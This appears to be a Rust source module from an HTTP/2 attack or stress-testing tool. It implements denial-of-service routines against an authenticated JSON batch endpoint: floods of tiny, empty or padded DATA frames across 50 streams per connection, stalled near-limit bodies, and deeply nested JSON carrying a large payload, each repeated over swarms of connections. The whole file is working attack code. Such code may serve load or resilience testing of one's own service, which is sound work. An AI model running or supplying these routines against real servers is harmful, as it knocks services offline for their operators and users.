//! Attacks with bodies.

use std::io;

use tokio::{
    io::AsyncWriteExt as _,
    time::{Duration, timeout},
};

use super::{
    connection::{count, upload},
    frame::{Block, Frames, flag, kind},
};
use crate::attack::scene::Scene;

/// The size of a large body, just below the limit.
const LARGE: usize = 1_990_000;
/// The data fitting into the initial windows of a connection.
const WITHIN_WINDOW: usize = 60_000;

/// The head of a batch.
fn head(scene: &Scene) -> Block {
    let path = format!("{}/batch", scene.products);
    Block::of("POST", &path, Some(scene.token())).field("content-type", "application/json")
}

/// Sends bodies in pieces on 50 streams, again on each new connection.
async fn in_pieces(scene: Scene, pieces: usize, add: fn(Frames, u32) -> Frames) {
    let work = |scene: Scene| async move {
        let ids: Vec<u32> = (0..50).map(|number| 2 * number + 1).collect();
        let opening = Frames::opening(&[]);
        let heads = ids
            .iter()
            .fold(opening, |frames, id| frames.head(*id, &head(&scene)));
        let round = ids
            .iter()
            .fold(Frames::default(), |frames, id| add(frames, *id));
        let (mut reading, mut writing) = scene.connect().await?.into_split();
        let write = async {
            writing.write_all(&heads.0).await?;
            for _ in 0..pieces / ids.len() {
                writing.write_all(&round.0).await?;
            }
            io::Result::Ok(())
        };
        let read = async {
            // The server answers soon, if at all.
            let read = timeout(Duration::from_secs(1), count(&mut reading, &scene.tally));
            read.await.unwrap_or(Ok(()))
        };
        tokio::try_join!(write, read).map(drop)
    };
    scene.swarm(10, work).await;
}

pub(super) async fn tiny(scene: Scene) {
    in_pieces(scene, WITHIN_WINDOW, |frames, id| frames.data(id, b" ")).await;
}

pub(super) async fn empty(scene: Scene) {
    in_pieces(scene, usize::MAX, |frames, id| frames.data(id, b"")).await;
}

pub(super) async fn padded(scene: Scene) {
    in_pieces(scene, WITHIN_WINDOW / 257, |frames, id| {
        let mut payload = [0; 257];
        payload[0] = 255;
        payload[1] = b' ';
        frames.add(kind::DATA, flag::PADDED, id, &payload)
    })
    .await;
}

pub(super) async fn stalled(scene: Scene) {
    let body = vec![b' '; LARGE];
    large(scene, body, 4, false).await;
}

pub(super) async fn at_once(scene: Scene) {
    // Nested up to a plausible limit, with the weight at the bottom.
    let deep = r#"{"a":"#.repeat(60);
    let weight = "x".repeat(LARGE - 1000);
    let body = format!(
        r#"{{"items":[{{"name":{deep}"{weight}"{}}}]}}"#,
        "}".repeat(60)
    );
    large(scene, body.into_bytes(), 3, true).await;
}

/// Sends a large body 100 times at once on several connections.
async fn large(scene: Scene, body: Vec<u8>, connections: usize, finished: bool) {
    let work = |scene: Scene| {
        let body = &body;
        async move {
            let head = || head(&scene).field("content-length", &body.len().to_string());
            upload(&scene, head, 100, body, finished).await
        }
    };
    scene.swarm(connections, work).await;
}
